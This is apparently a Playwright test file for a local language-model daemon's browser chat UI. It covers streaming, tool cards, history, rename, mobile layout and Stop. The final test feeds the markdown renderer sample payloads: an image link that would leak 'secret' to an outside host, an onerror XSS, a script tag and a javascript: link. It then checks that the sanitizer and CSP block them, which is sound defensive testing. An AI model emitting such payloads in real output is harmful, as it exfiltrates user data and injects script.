"""The browser UI at /ui in a real Chromium (Debian's, driven by Playwright) against a real `qwend serve` with
the real default model: a streamed turn with a tool, the history after a reload, rename, a narrow screen, Stop,
and model output that cannot load anything from another host. Screenshots go to test-artifacts/ui-*.png."""

from __future__ import annotations

import shutil
import time

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from tests.conftest import ARTIFACTS, Daemon

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
# a profile without tools, so that a long answer is only text
# greedy: sampled at 0.8 the model once answered "I'm sorry, but I can't assist with that request." (13 tokens)
STORYTELLER = ('name = "storyteller"\ndescription = "Long stories, no tools."\n'
               'system_prompt = "You are a storyteller. Write long, detailed answers."\n'
               '[sampling]\ntemperature = 0\n')
QUESTION = "Run this Python code: print(123456789 * 987654321)"  # asked to compute it, the model forgets print
PRODUCT = str(123456789 * 987654321)  # 121932631112635269
SECOND = 1000  # Playwright counts milliseconds; the model decodes ~20 tokens/s on a shared CPU


@pytest.fixture(scope="module")
def server(model_path, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("ui")
    (workdir / "profiles").mkdir()
    (workdir / "profiles" / "storyteller.toml").write_text(STORYTELLER)
    daemon = Daemon(workdir, QWEND_PROFILES_DIR=str(workdir / "profiles")).start()
    yield daemon
    daemon.stop()


@pytest.fixture(scope="module")
def browser():
    if not shutil.which(CHROMIUM):
        pytest.fail(f"no Chromium at {CHROMIUM}: `apt-get install chromium` (scripts/install test does)")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield browser
        browser.close()


def open_page(browser: Browser, url: str, width: int = 1280, height: int = 860) -> tuple[Page, list[str]]:
    """A page at `url`, and the list its console errors and uncaught exceptions (CSP refusals too) go to."""
    page = browser.new_page(viewport={"width": width, "height": height})
    problems: list[str] = []
    page.on("console", lambda m: m.type == "error" and problems.append(f"console: {m.text}"))
    page.on("pageerror", lambda e: problems.append(f"exception: {e}"))
    page.goto(url)
    expect(page.locator("#model-state")).to_contain_text("ready", timeout=30 * SECOND)
    return page, problems


def new_session(page: Page, profile: str) -> str:
    expect(page.locator(f"#profile option[value={profile}]")).to_have_count(1, timeout=10 * SECOND)
    page.select_option("#profile", profile)
    expect(page.locator("#model option")).not_to_have_count(0)
    assert "loaded" in page.locator("#model option:checked").inner_text()  # the daemon's model, in memory
    page.click("#create")
    expect(page.locator("#sessions .session.active")).to_have_count(1, timeout=10 * SECOND)
    return page.locator("#sessions .session.active").get_attribute("data-id")


def watch_answer_text(page: Page) -> None:
    """Record the length of the last answer's text each time it changes while the answer streams."""
    page.evaluate("""() => {
        window.seen = [];
        new MutationObserver(() => {
            const parts = document.querySelectorAll('.msg.assistant .markdown');
            const last = parts[parts.length - 1];
            if (last && document.body.classList.contains('busy')) window.seen.push(last.textContent.length);
        }).observe(document.getElementById('log'), {subtree: true, childList: true, characterData: true});
    }""")


def test_a_turn_with_a_tool_streams_renders_and_persists(server, browser):
    ARTIFACTS.mkdir(exist_ok=True)
    page, problems = open_page(browser, f"{server.url}/ui", height=720)
    sid = new_session(page, "code_runner")
    watch_answer_text(page)
    page.fill("#input", QUESTION)
    page.press("#input", "Enter")
    expect(page.locator(".msg.user .bubble")).to_have_text(QUESTION)
    expect(page.locator("#stop")).to_be_visible()

    card = page.locator(".msg.assistant .tool-card").first
    expect(card).to_be_visible(timeout=180 * SECOND)
    tools = page.locator(".tool-card .tool-name")
    assert tools.first.inner_text() in ("python_repl", "calculator")
    assert "123456789" in card.locator(".tool-args").inner_text()
    # tokens appear while the turn still runs (the Stop button shows until `done`)
    page.wait_for_function("""() => document.body.classList.contains('busy') &&
        [...document.querySelectorAll('.msg.assistant .markdown')].some(m => m.textContent.trim().length > 0)""",
                           timeout=180 * SECOND)
    expect(page.locator("#send")).to_be_visible(timeout=180 * SECOND)
    page.screenshot(path=str(ARTIFACTS / "ui-conversation.png"))
    grew = sorted({n for n in page.evaluate("window.seen") if n > 0})
    assert len(grew) >= 2, f"the answer arrived in one piece, not streamed: {grew}"

    # the computed product, in the result of a call that succeeded (the model may have needed a second try)
    expect(page.locator(".tool-card.ok .tool-result").filter(has_text=PRODUCT)).not_to_have_count(0)
    answer = page.locator(".msg.assistant .markdown").last.inner_text()
    assert answer.strip(), "no answer text after the tool result"
    meta = page.locator(".msg.assistant .meta").inner_text()
    assert "qwen2.5-coder:0.5b" in meta and "tokens" in meta, meta
    print("answer:", answer, "|", meta)

    # the session was named after its first message; rename it in the list
    title = page.locator("#sessions .session.active .session-title")
    expect(title).to_have_text(QUESTION, timeout=10 * SECOND)
    page.click("#sessions .session.active .rename")
    page.fill("#sessions .session.active .rename-input", "Big multiplication")
    page.press("#sessions .session.active .rename-input", "Enter")
    expect(title).to_have_text("Big multiplication", timeout=10 * SECOND)
    assert httpx.get(f"{server.url}/v1/sessions/{sid}").json()["title"] == "Big multiplication"

    # a reload shows the stored history: the question, the tool cards with their results, the answer
    streamed_tools = tools.all_inner_texts()
    page.reload()
    expect(page.locator(".msg.user .bubble")).to_have_text(QUESTION, timeout=20 * SECOND)
    expect(tools).to_have_text(streamed_tools)
    expect(page.locator(".tool-card.ok .tool-result").filter(has_text=PRODUCT)).not_to_have_count(0)
    expect(page.locator(".msg.assistant .markdown")).not_to_have_count(0)
    assert page.locator(".msg.assistant .markdown").last.inner_text().split() == answer.split()
    expect(page.locator("#sessions .session.active .session-title")).to_have_text("Big multiplication")
    assert not problems, problems

    narrow, problems = open_page(browser, f"{server.url}/ui/#{sid}", width=390, height=844)
    expect(narrow.locator(".msg.assistant .tool-card .tool-name")).to_have_text(streamed_tools)
    sidebar = narrow.locator("#sidebar").bounding_box()
    assert sidebar["x"] + sidebar["width"] <= 0, "the session list is collapsed on a narrow screen"
    assert narrow.locator("#composer").bounding_box()["width"] <= 390
    narrow.screenshot(path=str(ARTIFACTS / "ui-narrow.png"))
    narrow.click("#menu")
    expect(narrow.locator("#sessions .session.active")).to_be_in_viewport()
    narrow.wait_for_timeout(300)  # the drawer slides in
    narrow.screenshot(path=str(ARTIFACTS / "ui-narrow-sessions.png"))
    assert not problems, problems
    page.close()
    narrow.close()


def test_stop_ends_a_long_answer_and_the_daemon_stops_generating(server, browser):
    page, problems = open_page(browser, f"{server.url}/ui/")
    sid = new_session(page, "storyteller")
    page.fill("#input", "Write a very long story, at least 800 words, about a lighthouse keeper and a storm.")
    page.click("#send")
    text = page.locator(".msg.assistant .markdown").last
    page.wait_for_function("""() => {
        const parts = document.querySelectorAll('.msg.assistant .markdown');
        return parts.length && parts[parts.length - 1].textContent.length > 150;
    }""", timeout=180 * SECOND)
    assert httpx.get(f"{server.url}/health").json()["generation_in_progress"] is True
    page.click("#stop")
    expect(page.locator("#send")).to_be_visible(timeout=10 * SECOND)
    expect(page.locator(".msg.assistant .meta")).to_contain_text("Stopped")
    length = len(text.inner_text())
    deadline = time.monotonic() + 20
    while httpx.get(f"{server.url}/health").json()["generation_in_progress"]:
        assert time.monotonic() < deadline, "the daemon still generates 20 s after Stop"
        time.sleep(0.25)
    page.wait_for_timeout(1500)
    assert len(text.inner_text()) == length, "text kept arriving after Stop"
    # the question stays, with the answer as far as it came, marked stopped; so it shows after a reload
    kept = httpx.get(f"{server.url}/v1/sessions/{sid}").json()["messages"]
    assert [(m["role"], m["stopped"]) for m in kept] == [("user", False), ("assistant", True)]
    assert kept[0]["content"].startswith("Write a very long story") and len(kept[1]["content"]) > 100
    page.screenshot(path=str(ARTIFACTS / "ui-stopped.png"))
    page.reload()
    page.click(f"#sessions .session[data-id='{sid}'] .session-open")
    expect(page.locator(".msg.assistant .meta").last).to_contain_text("Stopped")
    assert not problems, problems
    page.close()


def test_model_output_cannot_load_from_other_hosts(server, browser):
    page, problems = open_page(browser, f"{server.url}/ui/")
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    html = page.evaluate("""async () => {
        const { renderMarkdown } = await import('./render.js');
        const box = document.createElement('div');
        document.body.append(box);
        renderMarkdown(box, '![leak](http://198.51.100.7/leak.png?q=secret) <img src=x onerror="window.pwned=1">' +
            '<script>window.pwned=2</script> [link](javascript:window.pwned=3)');
        await new Promise(r => setTimeout(r, 300));
        return box.innerHTML + ' pwned=' + window.pwned;
    }""")
    assert "pwned=undefined" in html and "onerror" not in html and "<script" not in html and "javascript:" not in html
    assert "image not loaded: leak" in html
    assert not [u for u in requests if "198.51.100.7" in u or u.endswith("/x")], requests
    # the CSP stops what a sanitizer might miss: an image from another host never loads
    blocked = page.evaluate("""() => new Promise(resolve => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('blocked');
        img.src = 'http://198.51.100.7/direct.png';
    })""")
    assert blocked == "blocked"
    assert any("Content Security Policy" in p for p in problems), problems  # Chromium reports the refusal
    page.close()
